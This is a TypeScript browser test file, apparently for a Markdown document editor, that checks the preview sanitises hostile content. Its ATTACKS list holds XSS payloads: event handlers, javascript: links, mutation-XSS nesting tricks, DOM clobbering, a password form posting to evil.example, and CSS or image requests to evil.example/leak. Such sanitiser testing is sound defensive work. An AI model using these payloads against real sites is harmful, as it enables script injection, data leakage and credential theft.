/** What a text cannot do to whoever looks at its preview. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { person } from "../helpers/browser.ts";
import { startPageServer } from "../helpers/page-server.ts";
import { createDocument } from "../helpers/server.ts";
import { until } from "../helpers/until.ts";

/** Each a paragraph of its own; `attacked()` is what an attack would call. */
const ATTACKS = [
  `<img src=x onerror="attacked()">`,
  `<script>attacked()</script>`,
  `<a href="javascript:attacked()">script link</a>`,
  `<a href="jAvAs&#x09;cript:attacked()">hidden script link</a>`,
  `[md](javascript:attacked())`,
  `<a href="data:text/html,<script>attacked()</script>">data link</a>`,
  `<a href="vbscript:attacked()">vb</a>`,
  `<svg onload="attacked()"><script>attacked()</script></svg>`,
  `<svg><animate onbegin=attacked() attributeName=x dur=1s></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror=attacked()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attacked()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>`,
  `<noscript><p title="</noscript><img src=x onerror=attacked()>">`,
  `<iframe srcdoc="<script>parent.attacked()</script>"></iframe>`,
  `<object data="javascript:attacked()"></object><embed src="javascript:attacked()">`,
  `<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/leak) }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/leak)">cover</div>`,
  `<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
  `<input autofocus onfocus=attacked()><select autofocus onfocus=attacked()></select>`,
  `<video src="https://evil.example/leak" poster="https://evil.example/leak"></video>`,
  `<img id="app" name="cookie" src="data:image/png;base64,"><a id="location" name="body">clobber</a>`,
  `<form id="attributes"><input name="attributes"></form>`,
  `<div class="toast menu document-header notice">in disguise</div>`,
  `<img src="/api/documents/other/attachments/1" alt="attachment">`,
  `<img data-attachment="https://evil.example/leak" src="//evil.example/leak" alt="foreign">`,
  `<img src="https://evil.example/leak" alt="elsewhere"> ![also](http://evil.example/leak)`,
  `<img data-foreign="https://evil.example/leak" alt="forged">`,
  `<img srcset="https://evil.example/leak 2x" alt="set">`,
  `<details ontoggle=attacked() open>details</details>`,
  `$\\href{javascript:attacked()}{x}$ $\\htmlStyle{position:fixed}{y}$ $\\includegraphics{https://evil.example/leak}$`,
  '```mermaid\n%%{init: {"themeCSS": "* { background: url(https://evil.example/leak) }", "securityLevel": "loose"}}%%\nflowchart LR\n  A["<img src=x onerror=attacked()>"] --> B\n  click A href "javascript:attacked()"\n```',
  '```mermaid\nflowchart LR\n  A["&lt;img src=x onerror=attacked()&gt;"] --> B["#60;img src=x onerror=attacked()#62;"]\n```',
  "```mermaid\nclassDiagram\n  class Shape {\n    <<img src=x onerror=attacked()>>\n    <<interface>>\n  }\n```",
  `<p onclick="attacked()">paragraph</p>`,
  `[link](https://example.org "title") [mail](mailto:a@example.org) [down](#end)`,
];

const FORBIDDEN =
  "script, style:not(.katex style), iframe, object, embed, form, link, meta, svg:not(.katex svg), math:not(.katex math), video, select, button, input:not([type=checkbox])";

test("[E110] whatever a text says: nothing of it runs, loads by itself, styles or covers the page, or takes its names", async (t) => {
  const server = await startPageServer(t);
  const content = `${ATTACKS.join("\n\n")}\n\n# End\n`;
  const { id, editToken } = await createDocument(server, { content });
  // Without the content policy, which would stop what sanitising let through.
  const page = await person(t, { bypassCSP: true });
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.addInitScript("globalThis.attacked = () => { globalThis.wasAttacked = true; }");
  await page.goto(`${server.url}/d/${id}#${editToken}`);
  await page.getByRole("button", { name: "Preview" }).click();
  const region = page.getByRole("region", { name: "Preview" });
  await region.getByRole("heading", { name: "End" }).waitFor({ timeout: 30_000 });
  await region.locator("img.diagram").nth(1).waitFor({ timeout: 30_000 });
  await region.locator("img.diagram, [data-broken]").nth(2).waitFor({ timeout: 30_000 });
  for (const link of await region.locator("a").all()) await link.dispatchEvent("click");
  assert.equal(await page.evaluate("globalThis.wasAttacked"), undefined);
  assert.deepEqual(await region.locator(".prose").locator(FORBIDDEN).all(), []);
  const kept = await region.evaluate((element) => {
    const prose = [...element.querySelectorAll("*")].filter((each) => !each.closest(".katex"));
    const attributes = prose.flatMap((each) => [...each.attributes]);
    return {
      handlers: attributes.filter(({ name }) => /^on|^style$|^srcset$|^name$/.test(name)).length,
      addresses: attributes
        .filter(({ name, value }) => name === "href" && !/^(https?:|mailto:|#)/.test(value))
        .map(({ value }) => value),
      ids: prose
        .map(({ id: name }) => name)
        .filter((name) => name && !name.startsWith("user-content-")),
      disguised: element.querySelectorAll(".toast, .menu, .notice, .document-header").length,
    };
  });
  assert.deepEqual(kept, { handlers: 0, addresses: [], ids: [], disguised: 0 });
  assert.equal(await page.evaluate("document.getElementById('app').tagName"), "DIV");
  assert.deepEqual(
    asked.filter((url) => url.includes("evil")),
    [],
  );
  const attachment = region.getByAltText("attachment");
  assert.equal(
    await attachment.getAttribute("data-attachment"),
    "/api/documents/other/attachments/1",
  );
  assert.equal(await attachment.getAttribute("src"), null);
  assert.equal(await region.getByAltText("foreign").getAttribute("data-attachment"), null);
  assert.equal(await region.getByAltText("forged").getAttribute("data-foreign"), null);
  const link = region.getByRole("link", { name: "link", exact: true }).last();
  assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
});

test("[E111] a link within the text scrolls to its heading, and the address stays", async (t) => {
  const server = await startPageServer(t);
  const content = `[down](#the-end) and a note[^1]\n\n${"word\n\n".repeat(200)}# The end\n\n[^1]: Note.\n`;
  const { id, editToken } = await createDocument(server, { content });
  const page = await person(t);
  const address = `${server.url}/d/${id}#${editToken}`;
  await page.goto(address);
  await page.getByRole("button", { name: "Preview" }).click();
  const region = page.getByRole("region", { name: "Preview" });
  await region.locator(".footnote-backref").waitFor({ state: "attached" });
  await region.getByRole("link", { name: "down" }).click();
  const scrolled = () => region.evaluate(({ scrollTop }) => scrollTop);
  await until(async () => (await scrolled()) > 1000);
  await region.locator(".footnote-backref").click();
  await until(async () => (await scrolled()) < 100);
  assert.equal(page.url(), address);
});
